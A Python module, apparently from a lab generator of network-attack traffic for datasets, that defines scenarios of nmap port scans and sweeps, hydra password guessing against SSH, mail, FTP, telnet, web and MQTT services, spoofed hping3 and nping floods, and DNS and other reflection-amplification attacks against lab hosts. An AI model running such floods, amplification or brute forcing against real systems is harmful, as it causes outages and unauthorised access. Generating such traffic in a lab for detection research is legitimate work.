# SPDX-License-Identifier: BSD-2-Clause
"""Attacks of hundreds to thousands of flows, as attacks are. They play at scale busy alone."""
from .attacks_flood import (FLOODER, VICTIM, hping, nping, pace, port, query, reflect, source,
                           syn)
from .attacks_probe import half_open, hydra, manner, nmap
from .benign_other import ssh, ssh_port
from .lab import address
from .scenario import TARGETS, scenario
from .services import REFLECTED, WORDS

BUSY = ("busy",)


def fast(ctx):
    """Microseconds between packets: 300 to 3,000 packets a second."""
    return int(1e6 / 10 ** ctx.rng.uniform(2.5, 3.5))


def dark_hosts(ctx, count):
    return sorted({ctx.dark() for _ in range(count)})


@scenario("portscan", needs=("atk", "atk"), scales=BUSY)
def scan_many_ports(ctx):
    """Hundreds of ports of one server."""
    first, kind = ctx.rng.randrange(1, 50000), half_open(ctx)
    ports = ctx.rng.choice((["--top-ports", ctx.some(300, 700)],
                            ["-p", f"{first}-{first + ctx.some(300, 700)}"]))
    nmap(ctx, [kind, *manner(ctx, kind == "-sS"), *ports], [ctx.server()], 25)


@scenario("portscan", needs=("atk",), scales=BUSY)
def scan_network(ctx):
    """A few ports of every address of the network, of which half have no host."""
    ports = ctx.rng.sample((21, 22, 23, 25, 80, 443, 445, 1433, 1883, 3306, 3389, 5900, 8080, 9200),
                           ctx.rng.randrange(1, 6))
    nmap(ctx, [half_open(ctx), ctx.rng.choice(("-T3", "-T4")), "--max-retries", 1, "-p",
               ",".join(map(str, ports))],
         ctx.servers(ctx.rng.randrange(12, 24)) + dark_hosts(ctx, ctx.rng.randrange(4, 16)), 25)


@scenario("portscan", needs=("atk",), scales=BUSY)
def scan_udp_many(ctx):
    """Dozens of UDP ports of a server or two."""
    nmap(ctx, ["-sU", "-T4", "--max-retries", ctx.rng.randrange(2), "--min-rate", 40, "--top-ports",
               ctx.some(60, 140)], ctx.servers(ctx.rng.randrange(1, 3)), 22)


@scenario("portscan", needs=("atk",), scales=BUSY)
def scan_odd_many(ctx):
    """Hundreds of ports with flags that no connection begins with."""
    kind = ctx.rng.choice(("-sF", "-sN", "-sX", "-sA", "-sW", "-sM"))
    nmap(ctx, [kind, "-T4", "--max-retries", 1, "--top-ports", ctx.some(100, 300)], [ctx.server()],
         20)


@scenario("portscan", needs=("atk",), scales=BUSY)
def sweep_many(ctx):
    """Which of all addresses live? Echo requests, or TCP pings of a few ports."""
    hosts = ctx.servers(ctx.rng.randrange(12, 24)) + dark_hosts(ctx, 16)
    if ctx.rng.random() < 0.5:
        ctx.run(["fping", f"-{ctx.family}", "-q", "-a", "-r", ctx.rng.randrange(2), "-i",
                 ctx.rng.choice((2, 5, 10)), "-S", ctx.own(), *hosts], 20)
    family = ["-6"] if ctx.v6 else []
    ctx.run(["nmap", *family, "-n", "-sn", "--send-ip", "-e", "eth0", "-S", ctx.own(), "-T4",
             *ctx.rng.choice((["-PE"], ["-PS22,80,443"], ["-PA80,443"], ["-PE", "-PS443", "-PA80"],
                              ["-PU53"])), *hosts], 22)


@scenario("portscan", needs=("atk",), scales=BUSY)
def scan_patient(ctx):
    """Half a minute at a few ports a second, over several servers."""
    nmap(ctx, [half_open(ctx), "--max-rate", ctx.rng.randrange(4, 15), "--max-retries", 0,
               "--top-ports", ctx.rng.randrange(20, 60)], ctx.servers(ctx.rng.randrange(2, 8)), 30)


@scenario("bruteforce", needs=("atk", "srv"), scales=BUSY)
def guess_ssh_many(ctx):
    """hydra with a hundred passwords for ssh."""
    hydra(ctx, ctx.some(50, 110), f"ssh://{ctx.host(ctx.own(1))}:{ssh_port(ctx)}",
          ctx.rng.randrange(2, 10), 30)


@scenario("bruteforce", needs=("atk",), scales=BUSY)
def guess_ssh_spray(ctx):
    """One or two passwords for each of many servers."""
    hosts, port_number = ctx.servers(ctx.rng.randrange(10, 22)), ssh_port(ctx)

    def spray(some):
        for host in some:
            for _ in range(ctx.rng.randrange(1, 3)):
                ssh(ctx, "true", key=False, wrong=True, server=host, port=port_number)
    ctx.crew([lambda n=n: spray(hosts[n::2]) for n in range(2)])


@scenario("bruteforce", needs=("atk", "srv"), scales=BUSY)
def guess_mail_many(ctx):
    """Hundreds of passwords for a mail service."""
    kind = ctx.rng.choice(("smtp", "pop3", "imap"))
    hydra(ctx, ctx.some(80, 200),
          f"{kind}://{ctx.host(ctx.own(1))}:{ctx.rng.choice(ctx.services.dialogs[kind])}",
          ctx.rng.randrange(2, 10), 30)


@scenario("bruteforce", needs=("atk", "srv"), scales=BUSY)
def guess_files_many(ctx):
    """Hundreds of passwords for FTP."""
    hydra(ctx, ctx.some(80, 200), f"ftp://{ctx.host(ctx.own(1))}:21", ctx.rng.randrange(2, 10), 30)


@scenario("bruteforce", needs=("atk", "srv"), scales=BUSY)
def guess_terminal_many(ctx):
    """Dozens of passwords for telnet."""
    hydra(ctx, ctx.some(40, 90), f"telnet://{ctx.host(ctx.own(1))}:23", ctx.rng.randrange(2, 8), 30)


@scenario("bruteforce", needs=("atk", "srv"), scales=BUSY)
def guess_web_many(ctx):
    """Hundreds of passwords for a page, by basic authentication or by form."""
    target = f"{ctx.host(ctx.own(1))}:{ctx.rng.choice(ctx.services.http)}"
    what = ctx.rng.choice((f"http-get://{target}/private/",
                           f"http-post-form://{target}/login:user=^USER^&password=^PASS^:failed"))
    hydra(ctx, ctx.some(80, 200), what, ctx.rng.randrange(2, 12), 30)


@scenario("bruteforce", needs=("atk",), scales=BUSY)
def guess_mqtt_many(ctx):
    """Dozens of wrong passwords at the MQTT broker, several at once."""
    server, number = ctx.server(), ctx.rng.choice(ctx.services.mqtt)

    def guess():
        for turn in range(ctx.some(12, 25)):
            ctx.run(["mosquitto_pub", "-h", server, "-p", number, "-A", ctx.own(), "-i",
                     f"g{ctx.rng.randrange(10 ** 6)}", "-u", "admin", "-P",
                     f"{ctx.rng.choice(WORDS)}{turn}", "-t", "a", "-m", "b"], 6)
    ctx.crew([guess] * ctx.rng.randrange(1, 4))


@scenario("flood", needs=FLOODER, families=(4,), scales=BUSY)
def flood_syn_many(ctx):
    """Thousands of SYNs, from one source or from any."""
    hping(ctx, [*syn(ctx), "-p", port(ctx), *source(ctx)], ctx.some(500, 1200), fast(ctx),
          ctx.own(1))


@scenario("flood", needs=FLOODER, families=(4,), scales=BUSY)
def flood_syn_any(ctx):
    """SYNs from any source, to one port or, with hping3's ++, to one after the other."""
    number = port(ctx)
    target = ctx.rng.choice((f"{number}", f"{number}", f"++{number}"))
    hping(ctx, [*syn(ctx), "-p", target, "--rand-source"], ctx.some(500, 1200), fast(ctx),
          ctx.own(1))


@scenario("flood", needs=FLOODER, families=(4,), scales=BUSY)
def flood_flags_many(ctx):
    """ACK, RST, FIN, PSH+ACK or SYN+ACK, hundreds of them."""
    flags = ctx.rng.choice((["-A"], ["-R"], ["-F"], ["-P", "-A"], ["-S", "-A"]))
    hping(ctx, [*flags, "-d", ctx.rng.choice((0, 0, 20, 300)), "-p", port(ctx), *source(ctx)],
          ctx.some(300, 700), fast(ctx), ctx.own(1))


@scenario("flood", needs=FLOODER, families=(4,), scales=BUSY)
def flood_udp_many(ctx):
    """Datagrams by the hundred, of one size to one port or to one after the other."""
    number = port(ctx)
    target = ctx.rng.choice((f"{number}", f"{number}", f"++{number}"))
    hping(ctx, ["-2", "-p", target, "-d", ctx.rng.choice((0, 1, 10, 32, 64, 120, 512, 1000)),
                *source(ctx)], ctx.some(400, 900), fast(ctx), ctx.own(1))


@scenario("flood", needs=FLOODER, families=(4,), scales=BUSY)
def flood_icmp_many(ctx):
    """Echo requests by the hundred."""
    hping(ctx, ["-1", "-d", ctx.rng.choice((0, 8, 56, 400)), *source(ctx)], ctx.some(300, 700),
          fast(ctx), ctx.own(1))


@scenario("flood", needs=FLOODER, families=(4,), scales=BUSY)
def flood_fragments_many(ctx):
    """Datagrams in fragments, from one source or any."""
    hping(ctx, ["-2", "-f", "-m", 256, "-p", port(ctx), "-d", ctx.rng.choice((500, 700, 1400)),
                *source(ctx)], ctx.some(60, 120), pace(ctx), ctx.own(1))


@scenario("flood", needs=FLOODER, families=(6,), scales=BUSY)
def flood_six_many(ctx):
    """Floods over IPv6 from dozens of ports."""
    target, udp = port(ctx), ctx.rng.random() < 0.4
    kind = ["--udp", "--data-length", ctx.rng.randrange(1, 200)] if udp else [
        "--tcp", "--flags", ctx.rng.choice(("syn", "syn", "syn", "ack"))]

    def some():
        for _ in range(8):
            nping(ctx, [*kind, "-g", ctx.rng.randrange(1024, 65536), "-p", target, "--rate",
                        ctx.rng.randrange(100, 1000), "-c", ctx.some(10, 20)], ctx.own(1))
    ctx.crew([some] * 3)


def by_many(ctx, job):
    """job(reflector) for more than a dozen reflectors, five at once."""
    chosen = [address("rfl", n, 4) for n in
              ctx.rng.sample(range(TARGETS), ctx.rng.randrange(12, TARGETS + 1))]

    def some(part):
        for reflector in part:
            job(reflector)
    ctx.crew([lambda n=n: some(chosen[n::5]) for n in range(5)])


@scenario("amplification", needs=VICTIM, families=(4,), scales=BUSY)
def reflect_dns_many(ctx):
    """Big answers of many open resolvers."""
    def ask(reflector):
        data = query(ctx, ctx.rng.randrange(3, 16))
        path = ctx.services.path(f"{ctx.plan.name}-{reflector}")
        with open(path, "wb") as out:
            out.write(data)
        reflect(ctx, ["-2", "-p", 53, "-E", path, "-d", len(data)], reflector, ctx.some(10, 25),
                fast(ctx))
    by_many(ctx, ask)


@scenario("amplification", needs=VICTIM, families=(4,), scales=BUSY)
def reflect_udp_many(ctx):
    """Many reflectors of one protocol or two."""
    numbers = ctx.rng.sample(sorted(REFLECTED), 2)

    def ask(reflector):
        number = ctx.rng.choice(numbers)
        reflect(ctx, ["-2", "-p", number, "-d", ctx.rng.randrange(1, 60)], reflector,
                max(6, ctx.some(20, 40) // len(REFLECTED[number])), fast(ctx))
    by_many(ctx, ask)


@scenario("amplification", needs=VICTIM, families=(4,), scales=BUSY)
def reflect_syn_many(ctx):
    """SYN-ACKs of many web servers."""
    by_many(ctx, lambda reflector: reflect(
        ctx, ["-S", "-p", ctx.rng.choice(ctx.services.http + ctx.services.https)], reflector,
        ctx.some(10, 25), fast(ctx)))


@scenario("amplification", needs=VICTIM, families=(4,), scales=BUSY)
def reflect_icmp_many(ctx):
    """Echo replies of many hosts, that nobody asked for."""
    by_many(ctx, lambda reflector: reflect(ctx, ["-1", "-d", ctx.rng.choice((56, 400, 1200))],
                                           reflector, ctx.some(8, 16), fast(ctx)))


@scenario("amplification", needs=VICTIM, families=(6,), scales=BUSY)
def reflect_six_many(ctx):
    """The same over IPv6, from dozens of ports of many reflectors."""
    number = ctx.rng.choice(sorted(REFLECTED))

    def ask():
        for _ in range(ctx.rng.randrange(8, 14)):
            data = ctx.rng.randbytes(ctx.rng.randrange(1, 40))
            if number == 53:
                data = query(ctx, ctx.rng.randrange(3, 16))
            nping(ctx, ["--udp", "-g", ctx.rng.randrange(1024, 65536), "-p", number, "--data",
                        data.hex(), "--rate", ctx.rng.randrange(50, 500), "-c", ctx.some(4, 10)],
                  ctx.server("rfl"))
    ctx.crew([ask] * 4)
